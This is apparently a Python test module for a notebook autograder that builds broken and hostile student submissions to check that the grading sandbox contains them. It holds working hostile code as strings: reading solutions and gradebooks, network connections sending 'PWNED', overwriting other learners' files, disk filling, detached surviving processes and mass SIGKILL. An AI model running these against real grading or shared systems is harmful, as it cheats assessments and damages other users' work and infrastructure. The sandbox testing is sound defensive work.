"""Broken and hostile submissions of a lab, built from its released notebook and its solution.

Nothing here is a committed notebook with outputs: :func:`build_corpus` derives every case
from ``solutions/<lab>`` (the right answers) and ``labs/<lab>`` (the blank learner version)
of the course it is given, so the corpus follows the lab when the lab changes.

Each :class:`Case` says what the submission does, the files it submits, the score it must get
(as bounds computed from the gradebook's points per test cell, never a hard-coded number),
the status the cohort report must give and a phrase its reason must contain.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

Points = dict[str, float]  # grade_id of each autograded test cell -> its points


@dataclass
class Case:
    student: str
    what: str
    files: dict[str, bytes]
    score: Callable[[Points], tuple[float, float]]  # (lowest, highest) acceptable score
    status: str | None                     # None: any status
    reason: str = ""                       # a phrase the report's reason contains (lower case)
    output_lacks: list[str] = field(default_factory=list)   # never in the autograded notebook
    output_has: list[str] = field(default_factory=list)     # always in it


def exactly(fn: Callable[[Points], float]) -> Callable[[Points], tuple[float, float]]:
    return lambda p: (fn(p), fn(p))


def total(p: Points) -> float:
    return sum(p.values())


def _grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if _grade_id(c) == grade_id)


def _code(source: str):
    return nbformat.v4.new_code_cell(source)


def _bytes(nb) -> bytes:
    return nbformat.writes(nb).encode("utf-8")


def _prepend(nb, grade_id: str, code: str):
    nb = copy.deepcopy(nb)
    cell = nb.cells[_index(nb, grade_id)]
    cell.source = code + "\n" + cell.source
    return nb


def _insert_after(nb, grade_id: str, *sources: str):
    nb = copy.deepcopy(nb)
    at = _index(nb, grade_id) + 1
    nb.cells[at:at] = [_code(s) for s in sources]
    return nb


def build_corpus(root: Path, lab, other_lab, targets: dict, time_limit: int,
                 cell_timeout: int) -> list[Case]:
    """Every case for ``lab`` (an entry of the course manifest) in the course at ``root``.

    ``other_lab`` is a second lab (its solution stands for "the notebook of another lab");
    ``targets`` names what hostile code aims at: ``solution`` (the instructor's notebook),
    ``gradebook``, ``victim_notebook`` (another learner's submitted notebook),
    ``victim_dir``, ``course_root`` and ``port`` (a TCP port the test listens on, on the
    host's loopback). ``time_limit`` and ``cell_timeout`` are the limits the batch runs with.
    """
    name = f"{lab.notebook}.ipynb"
    solution = nbformat.read(root / "solutions" / lab.path, as_version=4)
    blank = nbformat.read(root / "labs" / lab.path, as_version=4)
    test_ids = [_grade_id(c) for c in blank.cells
                if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")]
    ex1, ex2, ex3 = test_ids[:3]
    ans1, ans2, ans3 = (t.replace("_tests", "_answer") for t in (ex1, ex2, ex3))
    fn2 = blank.cells[_index(blank, ans2)].source.split("def ", 1)[1].split("(", 1)[0]
    fn2_args = blank.cells[_index(blank, ans2)].source.split("(", 1)[1].split(")", 1)[0]
    cases: list[Case] = []

    def add(student, what, nb_or_files, score, status="ok", reason="", **kw):
        files = ({name: _bytes(nb_or_files)} if isinstance(nb_or_files, nbformat.NotebookNode)
                 else nb_or_files)
        cases.append(Case(student, what, files, score, status, reason, **kw))

    # -- good ones ----------------------------------------------------------------------------
    add("good-solution", "the solution", solution, exactly(total))
    add("good-blank", "the blank lab, untouched", blank, exactly(lambda p: 0))

    # -- runaway code --------------------------------------------------------------------------
    loop = copy.deepcopy(solution)
    loop.cells[_index(loop, ans2)].source = f"def {fn2}({fn2_args}):\n    while True:\n        pass\n"
    add("loop", "an infinite loop in exercise 2", loop,
        exactly(lambda p: total(p) - p[ex2]), reason="cell time limit")
    nap = round(0.75 * cell_timeout)  # each cell stays under the cell limit; together, over time
    sleepy = _insert_after(solution, ex2, *[f"import time\ntime.sleep({nap})"] * (time_limit // nap + 2))
    add("slow", "cells that together run past the wall-time limit", sleepy,
        exactly(lambda p: p[ex1] + p[ex2]), status="timeout", reason="time limit")
    bomb = copy.deepcopy(solution)
    first_fn = bomb.cells[_index(bomb, ans1)].source.split("def ", 1)[1].split(")", 1)[0] + ")"
    bomb.cells[_index(bomb, ans1)].source = (
        f"def {first_fn}:\n    hog = []\n    while True:\n        hog.append(bytearray(64 * 2**20))\n")
    add("memory-bomb", "exercise 1 allocates memory until it runs out", bomb,
        lambda p: (0, total(p) - p[ex1]), reason="memory")
    add("sys-exit", "sys.exit() while defining exercise 1", _prepend(solution, ans1, "import sys\nsys.exit(1)"),
        exactly(lambda p: total(p) - p[ex1]))
    add("os-exit", "os._exit() in exercise 2 kills the kernel",
        _prepend(solution, ans2, "import os\nos._exit(3)"),
        exactly(lambda p: p[ex1]), status="killed", reason="exited with status 3")
    add("segfault", "the kernel crashes (SIGSEGV) in exercise 3",
        _prepend(solution, ans3, "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)"),
        exactly(lambda p: p[ex1] + p[ex2]), status="killed", reason="sigsegv")
    flood = _insert_after(solution, ex1, "for _ in range(400):\n    print('spam ' * 20000)")
    add("flood", "prints 40 MB", flood, exactly(total), reason="output cut")

    # -- tampering with the notebook ------------------------------------------------------------
    deleted = copy.deepcopy(solution)
    del deleted.cells[_index(deleted, ex2)]
    add("deleted-test", "the test cell of exercise 2 deleted", deleted,
        exactly(lambda p: total(p) - p[ex2]))
    edited = copy.deepcopy(blank)
    edited.cells[_index(edited, ex1)].source = "pass  # tests? what tests?"
    add("edited-test", "blank answers, exercise 1's test cell replaced by `pass`", edited,
        exactly(lambda p: 0))
    swapped = copy.deepcopy(solution)
    i1, i2 = _index(swapped, ex1), _index(swapped, ex2)
    swapped.cells[i1], swapped.cells[i2] = swapped.cells[i2], swapped.cells[i1]
    add("reordered-tests", "the test cells of exercises 1 and 2 swapped: test 2 runs before "
        "its answer exists", swapped, exactly(lambda p: total(p) - p[ex2]))
    locked = copy.deepcopy(solution)
    setup = next(c for c in locked.cells if c.cell_type == "code")
    setup.source = "pass  # who needs the data?"
    add("edited-readonly", "the read-only setup cell emptied (nbgrader restores it)", locked,
        exactly(total))
    extra = _insert_after(solution, ans1, "x = 41 + 1\nprint('an extra cell')")
    extra.cells.insert(3, nbformat.v4.new_markdown_cell("My own notes."))
    extra.cells.append(_code("print('the end')"))
    add("extra-cells", "extra code and markdown cells", extra, exactly(total))

    # -- files that are not this lab's notebook -----------------------------------------------
    add("corrupt-json", "the notebook file cut in half", {name: _bytes(solution)[:5000]},
        exactly(lambda p: 0), status="failed", reason="not a readable notebook")
    wrong_kernel = copy.deepcopy(solution)
    wrong_kernel.metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "Nope",
                                           "language": "python"}
    add("wrong-kernel", "a kernel name that does not exist here", wrong_kernel, exactly(total))
    add("missing", "no notebook, only a text file", {"notes.txt": b"I forgot to save.\n"},
        exactly(lambda p: 0), status="missing", reason="no " + name)
    other = nbformat.read(root / "solutions" / other_lab.path, as_version=4)
    add("other-lab", f"{other_lab.id}'s solution saved under {lab.id}'s name", other,
        exactly(lambda p: 0), status="failed", reason="nbgrader could not grade it")
    latin = _bytes(_insert_after(solution, ex1, "# café"))
    add("not-utf8", "the notebook saved as Latin-1", {name: latin.decode("utf-8").encode("latin-1", errors="replace")},
        exactly(lambda p: 0), status="failed", reason="not utf-8")

    # -- hostile code ---------------------------------------------------------------------------
    cheat = copy.deepcopy(blank)
    cheat.cells[_index(cheat, ans1)].source = _CHEAT.format(
        paths=[str(targets["solution"]), str(targets["gradebook"]), str(targets["victim_notebook"])],
        root=str(targets["course_root"]), answer=ans1)
    add("reads-secrets", "blank answers; exercise 1 hunts for the solution, the hidden tests and "
        "the gradebook to copy the answer", cheat, exactly(lambda p: 0),
        output_lacks=["LEAKED"], output_has=["blocked"])
    net = _insert_after(solution, ex1, _NETWORK.format(port=targets["port"]))
    add("network", "tries the host's loopback, the internet and DNS", net, exactly(total),
        output_lacks=["NET-OK"], output_has=["net blocked"])
    vandal = _insert_after(solution, ex1, _VANDAL.format(paths=[
        str(targets["victim_notebook"]), str(Path(targets["victim_dir"]) / "evil.txt"),
        str(targets["gradebook"]), str(targets["solution"]), "/home/learner/submission/evil.txt"]))
    add("vandal", "tries to overwrite another learner's files, the gradebook and the solution",
        vandal, exactly(total), output_lacks=["WROTE"], output_has=["write blocked"])
    add("runtime-poison", "leaves files in its kernel's runtime folder and locks it, to break the "
        "next submissions on its worker", _insert_after(solution, ex1, _POISON), exactly(total),
        output_lacks=["POISONED"], output_has=["runtime blocked"])
    add("disk-fill", "writes 2 GiB into every writable place it can find",
        _insert_after(solution, ex1, _DISK), exactly(total), output_has=["disk full"])
    add("display-flood", "displays 300 MB of HTML and images", _insert_after(solution, ex1, _DISPLAY),
        exactly(total), reason="output cut")
    add("survivor", "starts processes meant to outlive grading", _insert_after(solution, ex1, _SURVIVOR),
        exactly(total))
    add("kills-grader", "tries to kill the grader and every process it can see",
        _insert_after(solution, ex1, _KILLER), exactly(total), output_has=["kill blocked"])

    # -- attacks on the grading itself: blank answers, so nothing is earned --------------------
    from hostile.attacks import attack_cases

    for student, what, nb in attack_cases(blank):
        add(student, what, nb, exactly(lambda p: 0), status=None,
            output_lacks=["BEGIN HIDDEN TESTS", "expect_frame(", "def _check_"])
    return cases


SURVIVOR_MARK = "cxlabs-survivor-7f3a"

_POISON = '''import os
from ipykernel.connect import get_connection_file
_dirs = {os.path.dirname(os.path.abspath(get_connection_file()))}
print("runtime folder", sorted(_dirs))
for _d in sorted(_dirs):
    for _i in range(1, 50):
        try:
            with open(os.path.join(_d, f"kernel-{_i}"), "w") as fh:
                fh.write("x")
            print("POISONED", _d)
        except OSError as exc:
            print("runtime blocked", type(exc).__name__)
    try:
        os.chmod(_d, 0)
        print("POISONED chmod", _d)
    except OSError as exc:
        print("runtime blocked", type(exc).__name__)
'''

_DISK = '''import os
from ipykernel.connect import get_connection_file
_chunk = b"x" * (64 * 2**20)
for _d in sorted({"/tmp", os.path.expanduser("~"), "/dev/shm", os.path.dirname(os.path.abspath(get_connection_file()))}):
    _written = 0
    try:
        with open(os.path.join(_d, "fill.bin"), "wb") as fh:
            while _written < 2 * 2**30:
                fh.write(_chunk)
                _written += len(_chunk)
        print("disk not full", _d, _written)
    except OSError as exc:
        print("disk full", _d, _written // 2**20, "MiB", type(exc).__name__)
    try:
        os.remove(os.path.join(_d, "fill.bin"))
    except OSError:
        pass
'''

_DISPLAY = '''from IPython.display import HTML, display, publish_display_data
import base64
for _i in range(300):
    display(HTML("<b>" + "flood " * 170000 + "</b>"))
    publish_display_data({"image/png": base64.b64encode(b"\\x89PNG" + b"0" * 500000).decode()})
display(HTML("<i>" + "one message of 150 MB " * 7_000_000 + "</i>"))
print("after the big one")
'''

_SURVIVOR = f'''import os, subprocess, sys
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(1)", "{SURVIVOR_MARK}"],
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time\\nwhile True: time.sleep(1)", "{SURVIVOR_MARK}"])
    os._exit(0)
print("started")
'''

_KILLER = '''import os, signal
for _pid in [os.getppid(), 1, -1]:
    try:
        os.kill(_pid, signal.SIGKILL)
        print("kill sent", _pid)
    except OSError as exc:
        print("kill blocked", _pid, type(exc).__name__)
for _p in os.listdir("/proc"):
    if _p.isdigit() and int(_p) != os.getpid():
        try:
            os.kill(int(_p), signal.SIGKILL)
        except OSError:
            pass
print("kill blocked: still here")
'''


_CHEAT = '''import glob, json
def _grab(path):
    try:
        with open(path, "rb") as fh:
            data = fh.read()
    except OSError as exc:
        print("blocked", path, type(exc).__name__)
        return None
    print("LEAKED", path)
    return data
_found = None
for _path in {paths!r} + glob.glob({root!r} + "/**/*.ipynb", recursive=True) \\
        + glob.glob("/tmp/**/*.ipynb", recursive=True) + glob.glob("/proc/1/cwd/**/*.ipynb", recursive=True):
    _data = _grab(_path)
    if _data and b"BEGIN SOLUTION" in _data:
        for _cell in json.loads(_data)["cells"]:
            if _cell["metadata"].get("nbgrader", {{}}).get("grade_id") == {answer!r}:
                _found = "".join(_cell["source"])
if _found:
    exec(_found)
else:
    print("blocked: nothing to copy")
    raise NotImplementedError()
'''

_NETWORK = '''import socket
for _host, _port in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
    try:
        _s = socket.create_connection((_host, _port), timeout=3)
        _s.sendall(b"PWNED")
        print("NET-OK", _host)
    except OSError as exc:
        print("net blocked", _host, type(exc).__name__)
try:
    socket.getaddrinfo("example.com", 80)
    print("NET-OK dns")
except OSError as exc:
    print("net blocked dns", type(exc).__name__)
'''

_VANDAL = '''for _path in {paths!r}:
    try:
        with open(_path, "ab") as fh:
            fh.write(b"EVIL")
        print("WROTE", _path)
    except OSError as exc:
        print("write blocked", _path, type(exc).__name__)
'''
